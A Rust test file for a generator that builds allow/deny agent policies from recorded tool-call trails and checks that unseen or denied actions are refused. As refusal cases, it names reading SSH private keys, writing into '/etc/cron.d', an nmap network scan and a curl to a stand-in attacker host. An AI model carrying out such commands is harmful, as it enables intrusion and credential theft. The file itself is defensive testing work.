//! The generator end to end on recorded trails: what the policy admits,
//! what it refuses, and that it is the same whatever the record order.

mod generate_common;

use generate_common::*;
use rampart_core::generate::{Generated, Generator, Observation, Options};
use serde_json::json;

fn options() -> Options {
    Options {
        home: Some(HOME.into()),
        name_prefix: "shop".into(),
        ..Options::default()
    }
}

fn generate(records: &[Observation], opts: Options) -> Generated {
    let mut g = Generator::new(opts).unwrap();
    for r in records {
        g.observe(r);
    }
    g.finish().unwrap_or_else(|e| panic!("{e}"))
}

/// A fixed pseudo-random permutation.
fn shuffled<T: Clone>(v: &[T], seed: u64) -> Vec<T> {
    let mut out = v.to_vec();
    let mut x = seed
        .wrapping_mul(6364136223846793005)
        .wrapping_add(1442695040888963407);
    for i in (1..out.len()).rev() {
        x = x
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        out.swap(i, (x >> 33) as usize % (i + 1));
    }
    out
}

#[test]
fn learned_workload_runs_again_and_variants_are_refused() {
    let mut records = workload(1);
    records.extend(workload(2));
    let out = generate(&records, options());
    let r = out.summary.replay.clone().unwrap();
    // Every call, the absent-file probes (ENOENT reads) included.
    assert_eq!((r.allowed, r.total), (58, 58), "{}", out.summary);
    assert!(out
        .summary
        .to_string()
        .contains("replay: 58/58 observed calls allowed"));

    // A third run, with its own random names, is admitted in full.
    let ev = engine(&out.yaml);
    for o in workload(3) {
        if o.request["outcome"] == "ENOENT" {
            continue;
        }
        let value = ["command", "path", "url"]
            .iter()
            .find_map(|k| o.request.get(*k).and_then(|v| v.as_str()))
            .unwrap();
        assert!(
            admits(&ev, &o.tool, value),
            "third run refused: {} {value}\n{}",
            o.tool,
            out.yaml
        );
    }
    // What was never seen is refused.
    assert!(!admits(&ev, "read", &format!("{HOME}/.ssh/id_rsa")));
    assert!(!admits(&ev, "write", "/etc/cron.d/x"));
    assert!(!admits(&ev, "exec", "nmap -sS 10.0.0.0/8"));
    assert!(!admits(&ev, "exec", "git push origin main"));
    assert!(!admits(&ev, "net", "tcp://localhost:8766"));
    assert!(!admits(&ev, "net", "tcp://api.github.com:22"));
    assert!(!admits(&ev, "write", &format!("{HOME}/notes.txt")));
    assert!(
        out.summary.probe_admitted.is_empty(),
        "{:?}",
        out.summary.probe_admitted
    );
}

#[test]
fn output_is_a_strict_rampart_policy() {
    let mut records = workload(1);
    records.extend(workload(2));
    let out = generate(&records, options());
    let v: serde_yaml_ng::Value = serde_yaml_ng::from_str(&out.yaml).unwrap();
    assert_eq!(v["version"].as_str(), Some("1"));
    assert_eq!(v["default_action"].as_str(), Some("deny"));
    let policies = v["policies"].as_sequence().unwrap();
    let mut names = std::collections::BTreeSet::new();
    let allowed_top = ["version", "default_action", "policies", "tests"];
    for k in v.as_mapping().unwrap().keys() {
        assert!(allowed_top.contains(&k.as_str().unwrap()), "{k:?}");
    }
    // Its own tests: Go Rampart's inline format, learned calls and refusals.
    let tests = v["tests"]
        .as_sequence()
        .expect("a generated policy carries tests");
    assert!(!tests.is_empty());
    for t in tests {
        for k in t.as_mapping().unwrap().keys() {
            assert!(["name", "tool", "params", "expect"].contains(&k.as_str().unwrap()));
        }
        assert!(matches!(t["expect"].as_str(), Some("allow" | "deny")));
    }
    for p in policies {
        let name = p["name"].as_str().unwrap();
        assert!(name.starts_with("shop-"), "{name}");
        assert!(
            names.insert(name.to_string()),
            "duplicate policy name {name}"
        );
        for k in p.as_mapping().unwrap().keys() {
            assert!(["name", "description", "priority", "match", "rules"]
                .contains(&k.as_str().unwrap()));
        }
        assert!(!p["match"]["tool"].as_sequence().unwrap().is_empty());
        for r in p["rules"].as_sequence().unwrap() {
            let action = r["action"].as_str().unwrap();
            assert!(action == "allow" || action == "deny");
            for (field, pats) in r["when"].as_mapping().unwrap() {
                let field = field.as_str().unwrap();
                assert!(
                    [
                        "command_matches",
                        "path_matches",
                        "path_not_matches",
                        "url_matches",
                        "default"
                    ]
                    .contains(&field),
                    "{field}"
                );
                for pat in pats.as_sequence().into_iter().flatten() {
                    let pat = pat.as_str().unwrap();
                    assert!(pat.matches("**").count() <= 2, "{pat}");
                    if pat.contains("**") {
                        let before = pat.split("**").next().unwrap();
                        assert!(
                            !before.contains(['*', '?', '[']),
                            "a glob before ** is inert in Rampart: {pat}"
                        );
                    }
                }
            }
        }
    }
    // The project's linter has nothing to say about it.
    let lint =
        rampart_core::policy::lint::lint(&[("generated.yaml".into(), out.yaml.clone())]).unwrap();
    assert!(lint.is_empty(), "{lint:?}");
    // Deny policies come before any allow.
    let first_allow = policies
        .iter()
        .position(|p| p["rules"][0]["action"] == "allow")
        .unwrap();
    assert!(policies[..first_allow].len() >= 3);
    assert!(policies[first_allow..]
        .iter()
        .all(|p| p["rules"][0]["action"] == "allow"));
    // Every allow rule carries its support in the comments above it.
    let lines: Vec<&str> = out.yaml.lines().collect();
    for (i, l) in lines.iter().enumerate() {
        if l.trim_start() != "- action: allow" {
            continue;
        }
        let supported = lines[..i]
            .iter()
            .rev()
            .take_while(|c| c.trim_start().starts_with('#'))
            .any(|c| {
                let c = c.trim_start()[1..].trim_start();
                c.starts_with(|ch: char| ch.is_ascii_digit()) && c.contains(" call")
            });
        assert!(supported, "line {}: {}", i + 1, out.yaml);
    }
}

#[test]
fn same_records_in_any_order_give_the_same_bytes() {
    let mut records = workload(1);
    records.extend(workload(2));
    records.extend(workload(4));
    let first = generate(&records, options()).yaml;
    for seed in 1..6 {
        let again = generate(&shuffled(&records, seed), options()).yaml;
        assert_eq!(first, again, "order {seed} changed the policy");
    }
}

#[test]
fn denied_ask_and_failed_calls_are_never_learned_but_absent_file_probes_are() {
    let s = "s1";
    let mut records = vec![
        exec(&["make", "test"], "2026-03-01T10:00:00Z", s),
        open(
            "read",
            &format!("{PROJECT}/a.txt"),
            "ok",
            "2026-03-01T10:00:01Z",
            s,
        ),
    ];
    let mut denied = exec(
        &["curl", "https://evil.example/x"],
        "2026-03-01T10:00:02Z",
        s,
    );
    denied.action = "deny".into();
    let mut asked = exec(&["make", "deploy"], "2026-03-01T10:00:03Z", s);
    asked.action = "ask".into();
    let failed_open = open(
        "read",
        &format!("{PROJECT}/nope.txt"),
        "ENOENT",
        "2026-03-01T10:00:04Z",
        s,
    );
    let mut failed_exec = exec(&["frobnicate"], "2026-03-01T10:00:05Z", s);
    failed_exec
        .request
        .insert("outcome".into(), json!("ENOENT"));
    let mut watched = exec(&["make", "lint"], "2026-03-01T10:00:06Z", s);
    watched.action = "watch".into();
    let secret_probe = open(
        "read",
        &format!("{HOME}/.ssh/id_ed25519"),
        "ENOENT",
        "2026-03-01T10:00:07Z",
        s,
    );
    let failed_write = open(
        "write",
        &format!("{HOME}/ro/out.txt"),
        "EACCES",
        "2026-03-01T10:00:08Z",
        s,
    );
    records.extend([
        denied,
        asked,
        failed_open,
        failed_exec,
        watched,
        secret_probe,
        failed_write,
    ]);
    let out = generate(&records, options());
    for never in ["curl", "deploy", "frobnicate", "id_ed25519", "ro/out.txt"] {
        assert!(!out.yaml.contains(never), "{never} learned:\n{}", out.yaml);
    }
    assert!(out.yaml.contains("\"make lint\""));
    let s = &out.summary;
    assert_eq!(s.records, 9);
    // make test, a.txt, the nope.txt probe, make lint.
    assert_eq!(s.learned, 4, "{s}");
    assert_eq!(s.skipped["denied by the policy in force"].count, 1);
    assert_eq!(s.skipped["ask (needed a human's approval)"].count, 1);
    assert_eq!(s.skipped["failed call (ENOENT)"].count, 1);
    assert_eq!(s.skipped["failed call (EACCES)"].count, 1);
    assert_eq!(
        s.skipped["failed call (a probe of a sensitive path: never learned)"].count,
        1
    );
}

#[test]
fn time_agent_and_session_filters_count_what_they_leave_out() {
    let mut records = workload(1);
    records.extend(workload(2));
    let opts = Options {
        since: Some(rampart_core::generate::parse_when("2026-03-02", chrono::Utc::now()).unwrap()),
        ..options()
    };
    let out = generate(&records, opts);
    assert_eq!(out.summary.skipped["before --since"].count, 29);
    assert_eq!(out.summary.sessions, 1);
    let opts = Options {
        session: Some("session-1".into()),
        ..options()
    };
    let out = generate(&records, opts);
    assert_eq!(
        out.summary.skipped["session not selected by --session"].count,
        29
    );
}
